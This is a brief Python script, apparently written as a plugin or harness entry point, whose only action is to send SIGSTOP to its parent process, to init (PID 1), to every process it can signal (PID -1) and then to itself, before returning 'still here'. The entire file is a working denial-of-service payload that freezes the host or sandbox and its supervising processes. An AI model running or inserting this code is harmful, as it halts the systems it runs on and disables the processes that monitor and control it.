"""Stop everything that can be reached with SIGSTOP, oneself last."""

import os


def main(target: dict) -> dict:
    for pid in (os.getppid(), 1, -1, os.getpid()):
        try:
            os.kill(pid, 19)
        except OSError:
            pass
    return {"message": "still here"}
